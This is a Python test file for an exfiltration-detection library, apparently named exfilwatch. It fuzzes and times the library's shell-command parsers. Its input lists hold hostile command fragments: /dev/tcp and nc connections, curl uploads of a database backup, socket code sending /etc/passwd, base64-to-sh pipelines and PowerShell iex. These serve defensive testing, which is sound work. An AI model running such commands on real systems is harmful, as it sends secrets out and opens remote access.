"""No text makes what undoes command lines raise, run long, or write much."""

import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exfilwatch.commands.addresses import host, url
from exfilwatch.commands.command import LONGEST, LONGEST_LINE, Command, Undoing
from exfilwatch.commands.destinations import kind_of
from exfilwatch.commands.fields import _fields, fields
from exfilwatch.commands.letters import folded
from exfilwatch.commands.paths import path
from exfilwatch.commands.shells.argv import argv
from exfilwatch.commands.shells.posix import commands
from exfilwatch.commands.understand import understood

PIECES = [
    "curl", "-T", "x", "é", "x=", "x='a b'", "$x", "${x}", "${x:0:2}", "${x#a*}", "${x//a/b}", "${x:-", "${", "$(",
    "$((", "`", "(", ")", "((", "))", "{", "}", "{a,b}", "{1..9}", ",", "'", "\"", "\\", "\\\n", "\n", ";", "&&",
    "||", "|", "&", "|&", "<", "<<E", "\nE\n", "<<<", ">", "> >(", "< <(", "2>&1", ">&3", "exec 3<>/dev/tcp/h/1",
    "$'", "\\x41", "$@", "$1", "$IFS", "if ", "then ", "fi", "do ", "done", "while ", "for x in a b", "case a in",
    "esac", ";;", "[[", "]]", "[u]", "#", " ", "\t", "!", "function ", "f() ", "f", "alias a='b c'", "a=(", "${a[@]}",
    "${!a}", "${#a}", "echo -e", "printf '%s\\n'", "base64 -d", "rev", "tr a b", "set -- ", "shift", "eval ",
    "read a", "=", "~", "*", "0x7f", "1", "xxd -r -p", "IFS=,;", "unset x", "coproc ",
]  # fmt: skip
SCRIPTS = st.one_of(st.text(max_size=200), st.lists(st.sampled_from([*PIECES, " "]), max_size=40).map("".join))


def posix(text: str) -> list[Command]:
    return commands(text, Undoing())


def windows_argv(text: str) -> list[str]:
    return argv(text, windows=True)


def posix_argv(text: str) -> list[str]:
    return argv(text, windows=False)


def letters(text: str) -> str:
    return folded(text, Undoing())


@settings(deadline=None, max_examples=120)
@given(SCRIPTS)
def test_any_script_is_split(script: str) -> None:
    for command in posix(script):
        assert command.words
        assert len("".join(command.words)) <= 64 * (len(script) + 1000)


@settings(deadline=None)
@given(SCRIPTS, st.booleans())
def test_any_line_is_an_argument_vector_that_is_no_longer_than_it(line: str, windows: bool) -> None:
    assert len("".join(argv(line, windows))) <= len(line)


@settings(deadline=None)
@given(st.one_of(st.text(max_size=80), st.text("0123456789abcdefx.:[]%/@\\-_~?*", max_size=40)))
def test_any_host_url_or_path_has_a_form_that_is_not_much_longer(text: str) -> None:
    assert len(host(text)) <= 8 * len(text) + 16
    assert len(path(text).text) <= 8 * len(text) + 16
    found = url(text, bare=True)
    assert found is None or found.host or found.scheme == "file"


@settings(deadline=None)
@given(st.text(max_size=60))
def test_letters_are_folded_once(text: str) -> None:
    once = folded(text, Undoing())
    assert folded(once, Undoing()) == once


def test_a_name_of_many_labels_has_the_kind_of_its_end_at_once() -> None:
    start = time.process_time()
    assert kind_of("a." * 50_000 + "ngrok.io") == kind_of("ngrok.io") != "public"
    assert time.process_time() - start < 2


REPEATED = [
    "$(", "`", "$((", "${x:-", "\"$(", "{a=(", "{", "{a,", "a{b,c}", "((", "[[ ", "(", ")a", "if ", "case x in ",
    "f()", "a|", "a;", "a;;", "a>b ", "a<<E\n", "<(", ">(", "$x", "\"$x", "\\a", "'a'", "a=", "x=$x$x;", "x+=$x;",
    "${x//a/bb}", "a=(b) ", "alias a=b;", "f(){ f $1;};f 1;", "{ a;", "}>b;", "coproc a;", "\\\n", "#", "a#",
    "echo a|rev|rev|", "é", "$'\\x41'", "${x#*a*a*a*a}", "printf %999s|", "{1..99}{1..99}", "eval x=1;",
    "set -- $@ a;", "<<a <<b ", "a\"b\"", "~", "/../", "\\\\",
]  # fmt: skip


@pytest.mark.parametrize("piece", REPEATED)
@pytest.mark.parametrize(
    "look",
    [posix, windows_argv, posix_argv, host, url, path, letters],
    ids=lambda look: look.__name__,
)
def test_time_grows_with_the_text_and_no_faster(look: Callable[[str], object], piece: str) -> None:
    small = _seconds(look, _filled(piece, 8_000))
    large = _seconds(look, _filled(piece, 64_000))
    assert large < max(8 * 3 * small, 0.02)


def _filled(piece: str, size: int) -> str:
    return ("x=aaaaaaaa;" + piece * (size // len(piece) + 1))[:size]


def _seconds(look: Callable[[str], object], text: str) -> float:
    """Of the processor, the best of three: other work on the machine costs none of it."""
    best = 1e9
    for _ in range(3):
        began = time.process_time()
        look(text)
        best = min(best, time.process_time() - began)
    return best


def _loop() -> float:
    """What a plain loop costs here: 2,000 additions, about 50 microseconds on the machine that is meant."""
    best = 1e9
    for _ in range(50):
        began = time.perf_counter()
        total = 0
        for number in range(2_000):
            total += number
        best = min(best, time.perf_counter() - began)
    return best


TYPICAL = {
    "curl with headers": "curl -sS "
    + " ".join(f"-H 'X-Field-{number}: some value'" for number in range(70))
    + " --data-binary @/var/backups/db.sql.gz 'https://files.example.com/up?token="
    + "a" * 2000,
    "java": "java " + " ".join(f"-Dsome.name{number}=/opt/app/value{number}.jar" for number in range(120)),
    "python": 'python3 -c "import socket\n' + "s.send(open('/etc/passwd', 'rb').read())\n" * 110,
    "files": "tar czf /tmp/x.tgz " + " ".join(f"/home/user/documents/report-{number}.docx" for number in range(120)),
}


@pytest.mark.parametrize("line", TYPICAL.values(), ids=TYPICAL)
def test_a_typical_line_of_4_kb_is_split_in_120_microseconds(line: str) -> None:
    line = line[:4096]
    assert len(line) > 3900
    best = 1e9
    for _ in range(100):
        undoing = Undoing()
        began = time.perf_counter()
        commands(line, undoing)
        best = min(best, time.perf_counter() - began)
    assert best / _loop() < 120 / 50


@pytest.mark.parametrize("piece", REPEATED)
def test_no_script_takes_more_than_50_milliseconds(piece: str) -> None:
    seconds = _seconds(posix, _filled(piece, LONGEST))
    assert seconds / _loop() < 0.050 / 50e-6


HOSTILE = [
    ("posix", "cmd /c echo a|base64 -d|sh >-T x xxd -r -p "),
    ("posix", "cat x|curl -T - h|"),
    ("posix", "tar c /home/a|nc h 1;"),
    ("powershell", "cmd /c {1..9}aGVsbG8="),
    ("powershell", "foreach(\\\\h@SSL\\s\\a -split "),
    ("cmd", 'cmd /v:on /c "set x=cu&& !x!rl" '),
    ("cmd", "net use x: \\\\h\\s & copy a x:\\ &"),
    ("", "bash -c '$env:temp"),
    ("", "powershell -c \"iex ('a'+'b')"),
    ("", "ssh h 'sudo env -S xargs "),
]
"""Languages and pieces of lines that are slow to be understood, as random ones of such pieces showed."""


BEGUN = [
    ("", "osascript -e '", "do shell script "),
    ("", "python3 -c '", "run(["),
    ("", "node -e '", 'spawn("a",["b",'),
    ("", "perl -e '", "q{"),
    ("", "vim -c ':lua ", "os.execute("),
    ("", "ssh -o '", "ProxyCommand=nc "),
    ("", "bash -c '", "split --filter "),
    ("cmd", "cmd /c ", "echo a>x.bat&x.bat&"),
    ("powershell", "& { param(", "$a"),
    ("powershell", "& { param($z) ", "iex $y; "),
    ("powershell", "& ", "$env:TEMP\\x "),
]
"""The same of one piece within a program's line."""


@pytest.mark.parametrize(("language", "piece"), HOSTILE)
def test_no_line_takes_more_than_50_milliseconds_to_say_what_it_does(language: str, piece: str) -> None:
    _is_told_soon(language, "", piece)


@pytest.mark.parametrize(("language", "beginning", "piece"), BEGUN)
def test_no_piece_of_a_line_takes_more_than_50_milliseconds(language: str, beginning: str, piece: str) -> None:
    _is_told_soon(language, beginning, piece)


def _is_told_soon(language: str, beginning: str, piece: str) -> None:
    line = (beginning + piece * (LONGEST_LINE // len(piece) + 1))[:LONGEST_LINE]
    event = {"ScriptBlockText" if language == "powershell" else "CommandLine": line}
    if language == "cmd":
        event["Image"] = r"C:\Windows\System32\cmd.exe"
    elif language == "posix":
        event["Image"] = "/bin/sh"

    def told(_line: str) -> object:
        _fields.cache_clear()
        understood.cache_clear()
        return fields(event.get)

    assert _seconds(told, line) / _loop() < 0.050 / 50e-6
